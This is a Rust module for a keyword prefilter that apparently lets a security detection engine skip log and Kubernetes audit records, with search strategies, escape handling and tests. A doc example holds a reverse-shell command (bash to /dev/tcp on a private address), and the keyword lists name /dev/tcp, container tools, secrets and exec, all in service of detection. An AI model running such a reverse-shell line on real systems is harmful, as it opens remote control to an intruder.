//! The byte-level prefilter: proves that a record cannot match any rule of a
//! profile before anything is parsed.
//!
//! A profile names keywords (ASCII case-insensitive). A record containing none
//! of them cannot match — unless JSON escapes hide one (`\u0064ocker`, `\/dev\/tcp`),
//! so a record with an escape that decodes to a character some keyword contains
//! is always read in full. Escapes of other characters (Go's `\u0026` for `&`,
//! common in Kubernetes audit URIs) do not defeat the filter.
//!
//! Four ways to search, with the same answers ([`Strategy`]): on x86-64 and AArch64 the record
//! is lower-cased in 4 KiB chunks (overlapping by the longest keyword) and searched
//! case-sensitively with aho-corasick's SIMD "Teddy" searcher; elsewhere (WebAssembly) it is
//! searched as it is through a table of case-folded byte pairs, every other position
//! ([`crate::prefilter::folded_pairs`]). The lower-cased chunks can also be searched with a
//! byte-pair table ([`crate::prefilter::bigram_searcher`], the previous WebAssembly search), or the
//! record as it is with ASCII-case-insensitive DFAs (slowest); both are kept to check the others.

pub(crate) mod bigram_searcher;
pub(crate) mod folded_pairs;

use alloc::string::String;
use alloc::vec::Vec;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use memchr::memmem;

const CHUNK: usize = 4096;
/// Keywords per searcher: aho-corasick's SIMD Teddy serves up to 64 patterns (beyond that it
/// falls back to a slower automaton), so larger lists are split.
const GROUP: usize = 64;

/// How a [`Prefilter`] searches for its keywords. Both give the same answers.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Strategy {
    /// Lower-case the record in chunks and search case-sensitively: aho-corasick's SIMD
    /// Teddy on x86-64 and AArch64.
    LowerChunks,
    /// Lower-case the record in chunks and search it with byte-pair tables (WebAssembly's
    /// search before [`Strategy::FoldedPairs`]; kept to check and measure it).
    LowerChunksBigrams,
    /// Search the record as it is with ASCII-case-insensitive DFAs (no copy, but a table
    /// step per byte: the slowest).
    CaseInsensitiveDfa,
    /// Search the record as it is (no copy) through a table of case-folded byte pairs,
    /// looked up at every other position: for targets without a SIMD searcher (WebAssembly).
    FoldedPairs,
}

impl Strategy {
    /// The faster strategy for the target this is compiled for.
    pub const FOR_TARGET: Strategy = if cfg!(any(target_arch = "x86_64", target_arch = "aarch64")) {
        Strategy::LowerChunks
    } else {
        Strategy::FoldedPairs
    };
}

/// Classes of keywords in [`Strategy::LowerChunksBigrams`]'s single table.
const KEYWORD: u8 = 1;
const MARKER: u8 = 2;
const GATED: u8 = 4;

/// Whether the classes found so far decide that a record may match.
fn decides(found: u8) -> bool {
    found & KEYWORD != 0 || found & (MARKER | GATED) == MARKER | GATED
}

/// Each keyword list in its own aho-corasick searcher(s).
#[derive(Clone, Debug)]
struct Lists {
    /// The keywords that count in every record.
    first: AhoCorasick,
    /// The markers of the sources whose keywords are gated (none: no gated keywords).
    markers: Option<AhoCorasick>,
    /// Searched only when a marker is present.
    gated: Vec<AhoCorasick>,
}

impl Lists {
    /// True when `hay` holds a marker (never without gated keywords).
    fn marks(&self, hay: &[u8]) -> bool {
        self.markers.as_ref().is_some_and(|m| m.is_match(hay))
    }

    fn any_gated(&self, hay: &[u8]) -> bool {
        self.gated.iter().any(|s| s.is_match(hay))
    }
}

/// The compiled keyword lists.
#[derive(Clone, Debug)]
enum Search {
    /// Each list on its own.
    Lists(Lists),
    /// [`Strategy::LowerChunksBigrams`]: keywords, markers and gated keywords in one table,
    /// found in one pass.
    Combined(crate::prefilter::bigram_searcher::BigramSearcher),
    /// [`Strategy::FoldedPairs`]: the same in one folded table, on the record as it is.
    Folded(crate::prefilter::folded_pairs::FoldedPairs),
}

/// A compiled prefilter. Holds a scratch buffer, so it is not `Sync` (neither is an engine).
#[derive(Clone, Debug)]
pub struct Prefilter {
    strategy: Strategy,
    scratch: core::cell::RefCell<Vec<u8>>,
    search: Search,
    /// Keywords (of all three lists) that start with a space, without it: they also match
    /// at the very start of a record (a program name at a word start, ` ctr`).
    leading: [Vec<Vec<u8>>; 3],
    longest: usize,
    /// Bytes that occur in some keyword (both cases), i.e. that an escape could hide.
    keyword_bytes: [bool; 128],
    slash: bool,
}

impl Prefilter {
    /// Builds a prefilter for `keywords` (non-empty, matched ASCII case-insensitively).
    pub fn new(keywords: &[String]) -> Result<Prefilter, String> {
        Prefilter::with_gated(keywords, &[], &[])
    }

    /// Builds a prefilter: `keywords` count in every record, `gated` keywords only in records
    /// that also contain one of `markers`; the strategy is the target's ([`Strategy::FOR_TARGET`]).
    ///
    /// ```
    /// use cadet_core::parts::prefilter::Prefilter;
    /// let p = Prefilter::with_gated(&["docker".into()], &["secrets".into()], &["k8s.io"]).unwrap();
    /// assert!(p.may_match(br#"{"apiVersion":"audit.k8s.io/v1","objectRef":{"resource":"secrets"}}"#));
    /// assert!(!p.may_match(br#"{"msg":"rotating secrets"}"#));
    /// ```
    pub fn with_gated(
        keywords: &[String],
        gated: &[String],
        markers: &[&str],
    ) -> Result<Prefilter, String> {
        Prefilter::with_strategy(keywords, gated, markers, Strategy::FOR_TARGET)
    }

    /// [`Prefilter::with_gated`] with a chosen strategy (to compare them, or to measure).
    pub fn with_strategy(
        keywords: &[String],
        gated: &[String],
        markers: &[&str],
        strategy: Strategy,
    ) -> Result<Prefilter, String> {
        let lower: Vec<String> = keywords.iter().map(|w| w.to_ascii_lowercase()).collect();
        let gated_lower: Vec<String> = gated.iter().map(|w| w.to_ascii_lowercase()).collect();
        let marker_lower: Vec<String> = if gated_lower.is_empty() {
            Vec::new() // markers only open the gated keywords
        } else {
            markers.iter().map(|w| w.to_ascii_lowercase()).collect()
        };
        let longest = lower
            .iter()
            .chain(&gated_lower)
            .chain(&marker_lower)
            .map(|w| w.len())
            .max()
            .unwrap_or(1);
        if longest >= CHUNK / 2 {
            return Err(alloc::format!(
                "prefilter keywords must be shorter than {} bytes",
                CHUNK / 2
            ));
        }
        let classed: Vec<(&[u8], u8)> = lower
            .iter()
            .map(|w| (w.as_bytes(), KEYWORD))
            .chain(marker_lower.iter().map(|w| (w.as_bytes(), MARKER)))
            .chain(gated_lower.iter().map(|w| (w.as_bytes(), GATED)))
            .collect();
        let combined = match strategy {
            Strategy::LowerChunksBigrams => {
                crate::prefilter::bigram_searcher::BigramSearcher::with_classes(&classed)
                    .map(Search::Combined)
            }
            Strategy::FoldedPairs => {
                crate::prefilter::folded_pairs::FoldedPairs::new(&classed).map(Search::Folded)
            }
            _ => None,
        };
        let search = match combined {
            Some(search) => search,
            // Also the fallback of the byte-pair strategy (a one-byte keyword has no pair).
            None => {
                let build = |words: &[String]| {
                    let mut b = AhoCorasickBuilder::new();
                    b.match_kind(MatchKind::LeftmostFirst);
                    if strategy == Strategy::CaseInsensitiveDfa {
                        b.ascii_case_insensitive(true)
                            .kind(Some(aho_corasick::AhoCorasickKind::DFA));
                    }
                    b.build(words).map_err(|e| alloc::format!("prefilter: {e}"))
                };
                let markers = match marker_lower.is_empty() {
                    true => None,
                    false => Some(build(&marker_lower)?),
                };
                let gated = match strategy {
                    _ if gated_lower.is_empty() => Vec::new(),
                    // Teddy (the SIMD searcher) serves up to GROUP patterns per searcher.
                    Strategy::LowerChunks => gated_lower
                        .chunks(GROUP)
                        .map(build)
                        .collect::<Result<Vec<_>, _>>()?,
                    // One automaton whatever the count.
                    _ => alloc::vec![build(&gated_lower)?],
                };
                Search::Lists(Lists {
                    first: build(&lower)?,
                    markers,
                    gated,
                })
            }
        };
        let leading_of = |words: &[String]| -> Vec<Vec<u8>> {
            words
                .iter()
                .filter_map(|w| w.strip_prefix(' '))
                .filter(|w| !w.is_empty())
                .map(|w| w.as_bytes().to_vec())
                .collect()
        };
        let leading = [
            leading_of(&lower),
            leading_of(&gated_lower),
            leading_of(&marker_lower),
        ];
        let mut keyword_bytes = [false; 128];
        for b in lower
            .iter()
            .chain(&gated_lower)
            .chain(&marker_lower)
            .flat_map(|w| w.bytes())
        {
            if b < 128 {
                keyword_bytes[b as usize] = true;
                keyword_bytes[b.to_ascii_uppercase() as usize] = true;
            } else {
                // Non-ASCII keyword bytes could be hidden by any \u escape.
                keyword_bytes = [true; 128];
            }
        }
        let slash = keyword_bytes[b'/' as usize];
        Ok(Prefilter {
            strategy,
            scratch: core::cell::RefCell::new(Vec::with_capacity(CHUNK)),
            search,
            leading,
            longest,
            keyword_bytes,
            slash,
        })
    }

    /// True when the record may match (contains a keyword, or an escape that could hide one).
    ///
    /// ```
    /// use cadet_core::parts::prefilter::Prefilter;
    /// let p = Prefilter::new(&["docker".into(), "/dev/tcp".into()]).unwrap();
    /// assert!(p.may_match(br#"{"cmd":"DOCKER ps"}"#));
    /// assert!(p.may_match(br#"{"cmd":"\u0064ocker ps"}"#));
    /// assert!(p.may_match(br#"{"cmd":"bash -i >& \/dev\/tcp\/10.0.0.1\/4444"}"#));
    /// assert!(!p.may_match(br#"{"uri":"/apis/v1?a=1\u0026b=2"}"#));
    /// let ctr = Prefilter::new(&[" ctr".into()]).unwrap();
    /// assert!(ctr.may_match(b"ctr run x") && ctr.may_match(b"sudo ctr run x") && !ctr.may_match(b"objectRef"));
    /// ```
    pub fn may_match(&self, record: &[u8]) -> bool {
        let found = match (&self.search, self.strategy) {
            (Search::Folded(table), _) => {
                let found = table.search(record, &decides);
                // Not decided: the search ran to the end and knows whether there is a backslash.
                return decides(found.classes)
                    || (found.backslash && self.escape_may_hide_keyword(record));
            }
            (Search::Combined(table), _) => self.search_combined(table, record),
            (Search::Lists(lists), Strategy::CaseInsensitiveDfa) => {
                self.search_in_place(lists, record)
            }
            (Search::Lists(lists), _) => self.search_lower_chunks(lists, record),
        };
        found || self.escape_may_hide_keyword(record)
    }

    /// True when one of the space-led keywords of list `which` starts the record.
    fn leads(&self, which: usize, record: &[u8]) -> bool {
        self.leading[which]
            .iter()
            .any(|w| record.len() >= w.len() && record[..w.len()].eq_ignore_ascii_case(w))
    }

    fn search_in_place(&self, lists: &Lists, record: &[u8]) -> bool {
        if self.leads(0, record) || lists.first.is_match(record) {
            return true;
        }
        (self.leads(2, record) || lists.marks(record))
            && (self.leads(1, record) || lists.any_gated(record))
    }

    fn search_combined(
        &self,
        table: &crate::prefilter::bigram_searcher::BigramSearcher,
        record: &[u8],
    ) -> bool {
        let Ok(mut buf) = self.scratch.try_borrow_mut() else {
            return true;
        };
        // One pass per chunk finds every class; a marker and a gated keyword may sit in
        // different chunks of a long record, so the classes are united over chunks.
        let mut found = 0;
        let mut start = 0;
        loop {
            let end = self.lower_chunk(&mut buf, record, start);
            found |= table.classes_in(&buf, &decides);
            if decides(found) {
                return true;
            }
            if end == record.len() {
                return false;
            }
            start = end + 1 - self.longest;
        }
    }

    fn search_lower_chunks(&self, lists: &Lists, record: &[u8]) -> bool {
        // The record is searched as if a space preceded it, so that a keyword such as
        // " ctr" (a program name at a word start) also matches at the very beginning.
        let Ok(mut buf) = self.scratch.try_borrow_mut() else {
            return true;
        };
        let mut marked = false;
        let mut start = 0;
        loop {
            let end = self.lower_chunk(&mut buf, record, start);
            if lists.first.is_match(&buf[..]) {
                return true;
            }
            marked = marked || lists.marks(&buf);
            if end == record.len() {
                if start == 0 {
                    // One chunk: the gated keywords are in the buffer already.
                    return marked && lists.any_gated(&buf);
                }
                break;
            }
            start = end + 1 - self.longest;
        }
        if !marked {
            return false;
        }
        // A long record with a marker: a gated keyword may sit in any chunk.
        let mut start = 0;
        loop {
            let end = self.lower_chunk(&mut buf, record, start);
            if lists.any_gated(&buf) {
                return true;
            }
            if end == record.len() {
                return false;
            }
            start = end + 1 - self.longest;
        }
    }

    /// Lower-cases the chunk of `record` at `start` into `buf` (led by a space at the start
    /// of the record) and returns where the chunk ends.
    fn lower_chunk(&self, buf: &mut Vec<u8>, record: &[u8], start: usize) -> usize {
        let lead = usize::from(start == 0);
        let end = (start + CHUNK - lead).min(record.len());
        let src = &record[start..end];
        buf.clear();
        buf.resize(lead + src.len(), b' ');
        // A plain loop over equal-length slices, which the compiler vectorises.
        for (d, s) in buf[lead..].iter_mut().zip(src) {
            *d = s.to_ascii_lowercase();
        }
        end
    }

    fn escape_may_hide_keyword(&self, record: &[u8]) -> bool {
        if memchr::memchr(b'\\', record).is_none() {
            return false;
        }
        if self.slash && memmem::find(record, b"\\/").is_some() {
            return true;
        }
        memmem::find_iter(record, b"\\u").any(|at| {
            let hex = record.get(at + 2..at + 6).unwrap_or(b"");
            let value = core::str::from_utf8(hex)
                .ok()
                .and_then(|h| u32::from_str_radix(h, 16).ok());
            match value {
                Some(v) if v < 128 => self.keyword_bytes[v as usize],
                Some(_) => false,
                None => true, // malformed escape: read the record and let the parser report it
            }
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn both_strategies_agree_across_chunk_boundaries() {
        let kw: Vec<String> = ["docker", " ctr", "/dev/tcp"]
            .iter()
            .map(|s| String::from(*s))
            .collect();
        let gated: Vec<String> = ["secrets", "/exec"]
            .iter()
            .map(|s| String::from(*s))
            .collect();
        let markers = ["k8s.io", "] get "];
        let a = Prefilter::with_strategy(&kw, &gated, &markers, Strategy::LowerChunks).unwrap();
        let b =
            Prefilter::with_strategy(&kw, &gated, &markers, Strategy::CaseInsensitiveDfa).unwrap();
        let c =
            Prefilter::with_strategy(&kw, &gated, &markers, Strategy::LowerChunksBigrams).unwrap();
        let d = Prefilter::with_strategy(&kw, &gated, &markers, Strategy::FoldedPairs).unwrap();
        let pad = |n: usize| "x".repeat(n);
        let mut cases: Vec<String> = alloc::vec![
            "ctr run".into(),
            "CTR run".into(),
            "objectRef".into(),
            "DOCKER".into(),
            "a secrets b".into(),
            "k8s.io secrets".into(),
            "] GET /exec".into(),
            "K8S.IO /EXEC".into(),
            String::new(),
        ];
        for n in [CHUNK - 10, CHUNK - 1, CHUNK, CHUNK + 5, 3 * CHUNK] {
            cases.push(alloc::format!("{}docker{}", pad(n), pad(7)));
            cases.push(alloc::format!("{}dock{}", pad(n), pad(7)));
            cases.push(alloc::format!("k8s.io{}secrets", pad(n)));
            cases.push(alloc::format!("secrets{}k8s.io", pad(n)));
            cases.push(alloc::format!("{}secrets", pad(n)));
        }
        for case in &cases {
            assert_eq!(
                a.may_match(case.as_bytes()),
                b.may_match(case.as_bytes()),
                "{}",
                &case[..case.len().min(40)]
            );
            assert_eq!(
                a.may_match(case.as_bytes()),
                c.may_match(case.as_bytes()),
                "{}",
                &case[..case.len().min(40)]
            );
            assert_eq!(
                a.may_match(case.as_bytes()),
                d.may_match(case.as_bytes()),
                "{}",
                &case[..case.len().min(40)]
            );
        }
        assert!(
            b.may_match(b"ctr run") && !b.may_match(b"objectRef") && b.may_match(b"K8S.IO /EXEC")
        );
        assert!(!b.may_match(b"secrets alone") && !a.may_match(b"secrets alone"));
    }
}
